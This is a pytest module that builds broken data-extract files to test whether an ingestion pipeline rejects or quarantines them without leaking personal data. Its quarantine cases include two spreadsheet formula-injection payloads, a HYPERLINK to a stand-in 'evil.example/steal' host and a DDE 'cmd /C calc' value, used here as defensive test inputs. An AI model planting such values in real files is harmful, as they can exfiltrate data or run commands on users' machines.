"""A corpus of broken extract files, each built from a real file of the small synthetic world.

Every one must end in a clear rejection (the file refused whole, the message naming the file,
the column where one is involved, and what to do) or in quarantine (the bad rows kept with a
reason): never a crash, never a silent drop, and never a message quoting the row's personal data.
"""

from __future__ import annotations

import csv
import gzip
import io
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import duckdb
import pytest

from data_contracts.contract import Contract, load_contracts
from pipelines.ingest.load import FileOutcome
from pipelines.ingest.readers import read_extract
from pipelines.ingest.run import IngestResult, run_ingest
from pipelines.warehouse.queries import quote
from tests.clock import test_clock

pytestmark = pytest.mark.bad_input  # the bad-input corpus: `pytest -m bad_input`

World = tuple[Path, dict[str, object]]
RUN_DATE = date(2026, 11, 16)
CONTRACTS = load_contracts()
POLICE, HEALTH, EXCLUSIONS = "police_occurrences", "health_referrals", "education_exclusions"
ROW = 7
"""The data row (1-based, header not counted) that most cases break."""
CUT = 200
"""The data row a truncated file ends in the middle of."""


@dataclass(frozen=True)
class Broken:
    """How to break one source's real extract: its new bytes, and (optionally) a new name."""

    source: str
    make: Callable[[Path], bytes]
    rename: Callable[[str], str] = lambda name: name
    secret_row: int = 1  # the data row whose personal data no message may quote
    secrets: tuple[str, ...] = ()  # personal data the breakage itself added
    audit: tuple[str, str] | None = (
        None  # what the message quotes from the file, and the audit's words instead
    )


def real_extract(world: World, source: str) -> Path:
    """The source's first (full) extract in the world's landing folder."""
    path = sorted((world[0] / "landing").glob(f"{source}_*"))[0]
    assert path.stat().st_size > 5_000, path
    return path


def delimiter_of(source: str) -> str:
    delimiter = CONTRACTS[source].delimiter
    assert delimiter is not None
    return delimiter


def parse(data: bytes, delimiter: str) -> list[list[str]]:
    """Records as Python's csv module reads them (a quoted line break stays inside its record)."""
    limit = csv.field_size_limit(64 * 2**20)
    try:
        return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
    finally:
        csv.field_size_limit(limit)


def unparse(rows: list[list[str]], delimiter: str) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=delimiter, lineterminator="\n").writerows(rows)
    return out.getvalue().encode("utf-8")


def with_value(path: Path, source: str, row: int, column: str, value: str) -> bytes:
    """The file with one field of one data row replaced (quoted only if the value needs it)."""
    delimiter = delimiter_of(source)
    rows = parse(path.read_bytes(), delimiter)
    assert unparse(rows, delimiter) == path.read_bytes(), "the real file must round-trip unchanged"
    rows[row][rows[0].index(column)] = value
    return unparse(rows, delimiter)


def with_column(path: Path, source: str, name: str, value: str) -> bytes:
    """The file with one more column: its header ``name`` and ``value`` in every row."""
    delimiter = delimiter_of(source)
    rows = parse(path.read_bytes(), delimiter)
    return unparse([[*rows[0], name]] + [[*r, value] for r in rows[1:]], delimiter)


def without_column(path: Path, source: str, name: str) -> bytes:
    delimiter = delimiter_of(source)
    rows = parse(path.read_bytes(), delimiter)
    gone = rows[0].index(name)
    return unparse([r[:gone] + r[gone + 1 :] for r in rows], delimiter)


def cut_mid_row(data: bytes, row: int, after: bytes) -> bytes:
    """The file as if the transfer stopped in data row ``row``, just after the bytes ``after``."""
    lines = data.splitlines(keepends=True)
    start = sum(len(line) for line in lines[:row])
    end = lines[row].index(after) + len(after)
    assert end < len(lines[row]) - 1
    return data[: start + end]


def truncated(path: Path) -> bytes:
    surname = parse(path.read_bytes(), ",")[CUT][3]
    return cut_mid_row(path.read_bytes(), CUT, ("," + surname[:2]).encode())


def truncated_in_quotes(path: Path) -> bytes:
    return cut_mid_row(with_value(path, POLICE, CUT, "SURNAME", "SMITH, JONES"), CUT, b'"SMITH, JO')


def text_after_quote(path: Path) -> bytes:
    """A quoted surname with a stray character after its closing quote: "KAUR"X."""
    lines = path.read_bytes().splitlines(keepends=True)
    fields = lines[ROW].split(b",")
    fields[3] = b'"' + fields[3] + b'"X'
    lines[ROW] = b",".join(fields)
    return b"".join(lines)


def quotes_pairing_across_lines(path: Path) -> bytes:
    """A stray quote opening one row's surname, and another closing the next row's: two rows read as one."""
    lines = path.read_bytes().splitlines(keepends=True)
    for row, edit in ((ROW, lambda f: b'"' + f), (ROW + 1, lambda f: f + b'"')):
        fields = lines[row].split(b",")
        fields[3] = edit(fields[3])
        lines[row] = b",".join(fields)
    return b"".join(lines)


def mixed_line_endings(path: Path) -> bytes:
    """The first ROW lines end in CRLF, the rest in LF (as when two exports are joined)."""
    lines = path.read_bytes().splitlines(keepends=True)
    return b"".join(line.replace(b"\n", b"\r\n") for line in lines[:ROW]) + b"".join(lines[ROW:])


def no_quotes(data: bytes) -> bytes:
    assert b'"' not in data, "changing the delimiter is only safe in a file with no quoted values"
    return data


def workbook_as_csv(path: Path) -> bytes:
    """What a sender's 'Save as CSV' of the workbook holds, under the workbook's .xlsx name."""
    frame = read_extract(path, CONTRACTS[EXCLUSIONS]).drop("row_number")
    assert frame.height > 10
    return frame.write_csv().encode("utf-8")


POLICE_WIDTH = len(CONTRACTS[POLICE].columns)
# (the broken file, the column its message must name, what it must say, what it must tell you to do)
REJECTED = [
    pytest.param(
        Broken(POLICE, truncated, secret_row=CUT),
        None,
        f"line {CUT + 1} has 4 fields where the header has {POLICE_WIDTH} (the file may be truncated)",
        "ask the sender to re-send it complete",
        id="truncated-mid-row",
    ),
    pytest.param(
        Broken(POLICE, truncated_in_quotes, secret_row=CUT, secrets=("SMITH", "JONES")),
        None,
        f"line {CUT + 1} has a quoted value with no closing quote",
        "ask the sender to re-send it",
        id="truncated-in-quoted-value",
    ),
    pytest.param(
        Broken(POLICE, text_after_quote, secret_row=ROW),
        None,
        f"line {ROW + 1} has a quoted value with no closing quote, or text after its closing quote",
        "ask the sender to re-send it",
        id="text-after-closing-quote",
    ),
    pytest.param(
        Broken(POLICE, lambda p: no_quotes(p.read_bytes()).replace(b",", b";")),
        None,
        "columns are separated by ';' but the contract says ','",
        "ask the sender to re-export with ',' between columns",
        id="wrong-delimiter-semicolon",
    ),
    pytest.param(
        Broken(HEALTH, lambda p: no_quotes(p.read_bytes()).replace(b"|", b",")),
        None,
        "columns are separated by ',' but the contract says '|'",
        "ask the sender to re-export with '|' between columns",
        id="wrong-delimiter-comma-for-pipe",
    ),
    pytest.param(
        Broken(
            POLICE,
            lambda p: with_value(p, POLICE, ROW, "SURNAME", "MÜLLER").decode().encode("latin-1"),
            secret_row=ROW,
            secrets=("MÜLLER", "LLER"),
        ),
        None,
        f"line {ROW + 1} is not UTF-8 text (perhaps Latin-1 or Windows-1252)",
        "ask the sender to re-export the file as UTF-8",
        id="latin-1",
    ),
    pytest.param(
        Broken(
            POLICE,
            lambda p: with_value(p, POLICE, ROW, "SURNAME", "O’NEILL").decode().encode("cp1252"),
            secret_row=ROW,
            secrets=("O’NEILL", "NEILL"),
        ),
        None,
        f"line {ROW + 1} is not UTF-8 text",
        "ask the sender to re-export the file as UTF-8",
        id="windows-1252-curly-apostrophe",
    ),
    pytest.param(
        Broken(POLICE, lambda p: p.read_bytes().decode().encode("utf-16")),
        None,
        "the file is UTF-16 text, not UTF-8",
        "ask the sender to re-export the file as UTF-8",
        id="utf-16",
    ),
    pytest.param(
        Broken(
            POLICE,
            lambda p: with_column(p, POLICE, "NOTES", "seen at home"),
            audit=(", column 'NOTES'", f", column {POLICE_WIDTH + 1} of the header"),
        ),
        "NOTES",
        "the file has a column the contract does not declare",
        "add it to the contract (and a migration); otherwise ask the sender to re-send it",
        id="extra-column",
    ),
    pytest.param(
        Broken(POLICE, lambda p: with_column(p, POLICE, "", "")),
        None,
        f"column {POLICE_WIDTH + 1} of the header has no name (a delimiter at the end of each line?)",
        "ask the sender to re-send it without the unnamed column",
        id="extra-unnamed-column-trailing-delimiter",
    ),
    pytest.param(
        Broken(POLICE, lambda p: without_column(p, POLICE, "POSTCODE")),
        "POSTCODE",
        "a column the contract requires is missing",
        "ask the sender to re-send it with every column",
        id="missing-column",
    ),
    pytest.param(
        Broken(
            POLICE,
            lambda p: p.read_bytes().replace(b",SURNAME,", b",Surname,", 1),
            audit=(
                "(the file has 'Surname': names must match exactly)",
                "(column 4 of the header differs from it in case or spaces)",
            ),
        ),
        "SURNAME",
        "a column the contract requires is missing (the file has 'Surname': names must match exactly)",
        "ask the sender to re-send it with every column",
        id="renamed-column",
    ),
    pytest.param(
        Broken(
            POLICE,
            lambda p: p.read_bytes().replace(b",FORENAMES,", b",SURNAME,", 1),
            audit=(", column 'SURNAME'", ", column 5 of the header"),
        ),
        "SURNAME",
        "the column appears more than once in the header",
        "ask the sender to re-send it",
        id="duplicate-header",
    ),
    pytest.param(
        Broken(POLICE, lambda p: b"\n" + p.read_bytes()),
        None,
        "the header row is blank",
        "ask the sender to re-send it with the column names in the first row",
        id="blank-first-line",
    ),
    pytest.param(
        Broken(POLICE, lambda p: b""),
        None,
        "the file is empty (0 bytes), not even a header row",
        "ask the sender to re-send it",
        id="empty-0-bytes",
    ),
    pytest.param(
        Broken(POLICE, lambda p: gzip.compress(p.read_bytes(), mtime=0)),
        None,
        "the file is binary, not CSV text",
        "ask the sender to re-send it",
        id="binary-gzipped",
    ),
    pytest.param(
        Broken(
            POLICE, lambda p: with_value(p, POLICE, ROW, "FORENAMES", "JOHN " * 3_400_000), secret_row=ROW
        ),
        None,
        f"line {ROW + 1} is longer than 16 MB",
        "ask the sender to re-send it",
        id="line-over-16-MB",
    ),
    pytest.param(
        Broken(EXCLUSIONS, workbook_as_csv),
        None,
        "the file is not a readable .xlsx workbook (it looks like text, not a spreadsheet)",
        "ask the sender to re-send it as an .xlsx workbook",
        id="csv-named-xlsx",
    ),
    pytest.param(
        Broken(POLICE, quotes_pairing_across_lines, secret_row=ROW),
        "SURNAME",
        f"the record that starts on line {ROW + 1} runs on to line {ROW + 2}: a quoted value holds a "
        "line break",
        "ask the sender to re-send it with every quote closed and no line breaks inside values",
        id="quotes-pairing-across-two-lines",
    ),
    pytest.param(
        Broken(
            POLICE,
            lambda p: with_value(p, POLICE, ROW, "SURNAME", "SMITH\nJONES"),
            secret_row=ROW,
            secrets=("SMITH", "JONES"),
        ),
        "SURNAME",
        f"the record that starts on line {ROW + 1} runs on to line {ROW + 2}",
        "ask the sender to re-send it with every quote closed and no line breaks inside values",
        id="line-break-inside-quoted-name",
    ),
    pytest.param(
        Broken(
            HEALTH,
            lambda p: with_value(p, HEALTH, ROW, "PATIENT_SURNAME", "SMITH\r\nJONES"),
            secret_row=ROW,
            secrets=("SMITH", "JONES"),
        ),
        "PATIENT_SURNAME",
        f"the record that starts on line {ROW + 1} runs on to line {ROW + 2}",
        "ask the sender to re-send it with every quote closed and no line breaks inside values",
        id="crlf-inside-quoted-name",
    ),
    pytest.param(
        Broken(POLICE, mixed_line_endings),
        None,
        f"line {ROW + 1} ends in LF but line 1 ends in CRLF (the file mixes line endings",
        "ask the sender to re-send it exported in one piece, every line ending the same way",
        id="mixed-crlf-and-lf",
    ),
    pytest.param(
        Broken(POLICE, lambda p: p.read_bytes().replace(b",DOB,", b"\r,DOB,", 1)),
        None,
        "line 1 has a carriage return (CR) before its end, outside any quoted value",
        "ask the sender to re-send it with each line ending the same way (CRLF or LF) and no CR inside a "
        "line",
        id="stray-cr-in-header",
    ),
    pytest.param(
        Broken(POLICE, lambda p: p.read_bytes(), rename=lambda n: n.replace("occurrences", "occurences")),
        None,
        "no contract matches this file name",
        "move the file out of the landing folder or add a contract",
        id="name-matches-no-contract",
    ),
    pytest.param(
        Broken(POLICE, lambda p: p.read_bytes(), rename=lambda n: n + ".bak"),
        None,
        "the name looks like a police_occurrences extract but is not police_occurrences_YYYY-MM-DD.csv",
        "rename it or ask the sender to re-send it",
        id="name-with-wrong-extension",
    ),
]


def land(world: World, tmp_path: Path, broken: Broken) -> tuple[Path, bytes, Path]:
    """Write the broken file into a fresh landing folder: (its path, its bytes, the real file)."""
    real = real_extract(world, broken.source)
    landing = tmp_path / "landing"
    landing.mkdir()
    data = broken.make(real)
    path = landing / broken.rename(real.name)
    path.write_bytes(data)
    return path, data, real


def ingest(tmp_path: Path) -> tuple[IngestResult, Path]:
    warehouse = tmp_path / "w.duckdb"
    landing, reports = tmp_path / "landing", tmp_path / "reports"
    # the shipped contracts, parsed once for the module rather than once per run
    return run_ingest(
        landing, warehouse, RUN_DATE, clock=test_clock(), report_dir=reports, contracts=CONTRACTS
    ), warehouse


def only_outcome(result: IngestResult, file_name: str) -> FileOutcome:
    assert [o.file_name for o in result.outcomes] == [file_name]
    return result.outcomes[0]


def personal_data(real: Path, contract: Contract, row: int) -> list[str]:
    """The personal data in one data row of the real file, as the reader reads it."""
    values = read_extract(real, contract).row(row - 1, named=True)
    return [
        str(values[c.name]) for c in contract.columns if c.pii and values[c.name] and len(values[c.name]) > 2
    ]


def assert_no_personal_data(texts: list[str], secrets: list[str]) -> None:
    assert secrets
    for text in texts:
        for secret in secrets:
            assert secret not in text, f"a message quotes personal data ({secret!r})"


def counts(con: duckdb.DuckDBPyConnection, source: str, load_id: int) -> tuple[int, int, int]:
    found = [
        con.execute(f"SELECT count(*) FROM {layer}.{source} WHERE load_id = ?", [load_id]).fetchall()[0][0]
        for layer in ("raw", "staging", "quarantine")
    ]
    return found[0], found[1], found[2]


@pytest.mark.parametrize(("broken", "column", "says", "action"), REJECTED)
def test_a_broken_file_is_rejected_whole_with_a_message_saying_what_to_do(
    small_world: World, tmp_path: Path, broken: Broken, column: str | None, says: str, action: str
) -> None:
    path, _, real = land(small_world, tmp_path, broken)
    result, warehouse = ingest(tmp_path)

    outcome = only_outcome(result, path.name)
    assert outcome.status == "rejected"
    assert (outcome.rows, outcome.staged, outcome.quarantined) == (0, 0, 0)
    problem = outcome.problem
    assert problem is not None
    where = f", column {column!r}" if column else ""
    assert problem.startswith(f"{path.name}{where}: "), problem
    if column is None:
        assert ", column " not in problem, problem
    assert says in problem
    assert problem.endswith(action), problem

    matched = broken.rename(real.name) == real.name
    with duckdb.connect(str(warehouse), read_only=True) as con:
        loads = con.execute(
            "SELECT load_id, file_name, source, status, problem, rows_raw, size_bytes FROM meta.load"
        ).fetchall()
        source = broken.source if matched else None
        size = path.stat().st_size
        assert loads == [(outcome.load_id, path.name, source, "rejected", problem, None, size)]
        events = con.execute(
            "SELECT action, file_name, detail FROM audit.event WHERE load_id = ?", [outcome.load_id]
        ).fetchall()
        audit = problem.replace(*broken.audit) if broken.audit else problem
        assert broken.audit is None or broken.audit[0] in problem
        assert events == [("reject", path.name, audit)]
        for name in CONTRACTS:  # no row of it anywhere
            assert [con.execute(f"SELECT count(*) FROM {layer}.{name}").fetchall()[0][0]
                    for layer in ("raw", "staging", "quarantine")] == [0, 0, 0]  # fmt: skip

    report = result.report_path.read_text(encoding="utf-8")
    assert path.name in report
    secrets = personal_data(real, CONTRACTS[broken.source], broken.secret_row) + list(broken.secrets)
    assert_no_personal_data([problem, report], secrets)


def assert_every_row_kept(
    result: IngestResult, warehouse: Path, path: Path, data: bytes, source: str
) -> tuple[FileOutcome, duckdb.DuckDBPyConnection]:
    """The file loaded, and rows in the file = raw rows = staged + quarantined, row numbers 1..n."""
    sent = len(parse(data, delimiter_of(source))) - 1
    outcome = only_outcome(result, path.name)
    assert outcome.status == "loaded" and outcome.problem is None
    assert outcome.load_id is not None
    assert outcome.rows == sent == outcome.staged + outcome.quarantined
    con = duckdb.connect(str(warehouse), read_only=True)
    assert counts(con, source, outcome.load_id) == (sent, outcome.staged, outcome.quarantined)
    assert con.execute(
        "SELECT status, rows_raw, rows_staged, rows_quarantined, problem FROM meta.load WHERE load_id = ?",
        [outcome.load_id],
    ).fetchall() == [("loaded", sent, outcome.staged, outcome.quarantined, None)]
    numbers = {
        layer: {n for (n,) in con.execute(f"SELECT row_number FROM {layer}.{source}").fetchall()}
        for layer in ("raw", "staging", "quarantine")
    }
    assert numbers["raw"] == set(range(1, sent + 1))
    assert numbers["staging"] | numbers["quarantine"] == numbers["raw"]
    assert not numbers["staging"] & numbers["quarantine"]
    assert con.execute(
        "SELECT action, rows FROM audit.event WHERE load_id = ?", [outcome.load_id]
    ).fetchall() == [("collect", sent)]
    return outcome, con


QUARANTINED = [
    pytest.param(
        POLICE, "SURNAME", '=HYPERLINK("http://evil.example/steal?id=1","Click for details")',
        "SURNAME:formula", ("HYPERLINK", "evil.example"), id="formula-in-surname",
    ),
    pytest.param(
        HEALTH, "PATIENT_FORENAME", "@SUM(1+1)*cmd|' /C calc'!A0",
        "PATIENT_FORENAME:formula", ("SUM(1+1)", "calc"), id="formula-with-the-delimiter-in-it",
    ),
    pytest.param(
        POLICE, "FORENAMES", "JOHN " * 200_000, "FORENAMES:max_length", ("JOHN JOHN",), id="1-MB-field",
    ),
    pytest.param(
        POLICE, "SURNAME", "SMITH\tJONES", "SURNAME:control_characters", ("SMITH", "JONES"),
        id="tab-inside-name",
    ),
]  # fmt: skip


@pytest.mark.parametrize(("source", "column", "value", "rule", "secrets"), QUARANTINED)
def test_a_bad_row_is_quarantined_with_its_reason_and_the_rest_load(
    small_world: World, tmp_path: Path, source: str, column: str, value: str, rule: str,
    secrets: tuple[str, ...],
) -> None:  # fmt: skip
    real = real_extract(small_world, source)
    broken = Broken(source, lambda p: with_value(p, source, ROW, column, value))
    path, data, _ = land(small_world, tmp_path, broken)
    result, warehouse = ingest(tmp_path)

    outcome, con = assert_every_row_kept(result, warehouse, path, data, source)
    with con:
        kept = con.execute(
            f"SELECT {quote(column)} FROM raw.{source} WHERE load_id = ? AND row_number = ?",
            [outcome.load_id, ROW],
        ).fetchall()
        assert kept == [(value,)], "the raw layer keeps the value exactly as sent"
        ((reasons,),) = con.execute(
            f"SELECT reasons FROM quarantine.{source} WHERE load_id = ? AND row_number = ?",
            [outcome.load_id, ROW],
        ).fetchall()
    messages = {r["rule"]: r["message"] for r in reasons}
    assert rule in messages
    assert messages[rule].startswith(f"{column} ")
    report = result.report_path.read_text(encoding="utf-8")
    assert rule in report
    # the row's other personal data, and what was put in it, appear in no message nor the report
    assert_no_personal_data(
        [*messages.values(), report], [*secrets, *personal_data(real, CONTRACTS[source], ROW)]
    )


@pytest.mark.parametrize(
    ("source", "edit"),
    [
        pytest.param(POLICE, lambda data: b"\xef\xbb\xbf" + data, id="bom"),
        pytest.param(HEALTH, lambda data: b"\xef\xbb\xbf" + data.replace(b"\n", b"\r\n"), id="bom-and-crlf"),
        pytest.param(POLICE, lambda data: data.replace(b"\n", b"\r"), id="cr-only-line-endings"),
        pytest.param(HEALTH, lambda data: data.replace(b"\n", b"\r\n"), id="crlf"),
    ],
)
def test_a_bom_or_any_one_line_ending_loads_every_row(
    small_world: World, tmp_path: Path, source: str, edit: Callable[[bytes], bytes]
) -> None:
    real = real_extract(small_world, source)
    path, data, _ = land(small_world, tmp_path, Broken(source, lambda p: edit(p.read_bytes())))
    result, warehouse = ingest(tmp_path)

    outcome, con = assert_every_row_kept(result, warehouse, path, data, source)
    contract = CONTRACTS[source]
    # a blank last value (a nullable column) is stored as NULL
    expected = [(r[0], r[-1] or None) for r in parse(real.read_bytes(), delimiter_of(source))[1:]]
    first, last = quote(contract.column_names[0]), quote(contract.column_names[-1])
    with con:
        found = con.execute(
            f"SELECT {first}, {last} FROM raw.{source} WHERE load_id = ? ORDER BY row_number",
            [outcome.load_id],
        ).fetchall()
        quarantined = con.execute(
            f"SELECT count(*) FROM quarantine.{source} WHERE load_id = ? AND row_number = 1",
            [outcome.load_id],
        ).fetchall()
    # the BOM is not part of the first column's name or value, nor a CR part of the last column's
    assert found == expected
    assert quarantined == [(0,)]
